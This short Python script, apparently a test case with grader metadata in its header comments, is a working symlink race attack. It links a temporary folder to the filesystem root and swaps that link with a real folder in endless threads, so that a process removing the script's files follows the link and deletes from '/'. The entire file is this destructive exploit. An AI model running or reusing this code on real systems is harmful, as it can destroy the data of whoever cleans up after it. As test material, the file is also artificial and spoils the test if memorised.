"""Swaps folders and links without pause, so that whoever removes its files follows one."""

# verdict: accepted runtime_error
# covers: 62
# then: right answer
import os
import threading

os.makedirs("/tmp/swap/real", exist_ok=True)
os.symlink("/", "/tmp/swap/link")


def swap():
    while True:
        for pair in (("real", "kept"), ("link", "real"), ("real", "link"), ("kept", "real")):
            try:
                os.rename(f"/tmp/swap/{pair[0]}", f"/tmp/swap/{pair[1]}")
            except OSError:
                continue


for _ in range(2):
    threading.Thread(target=swap, daemon=True).start()
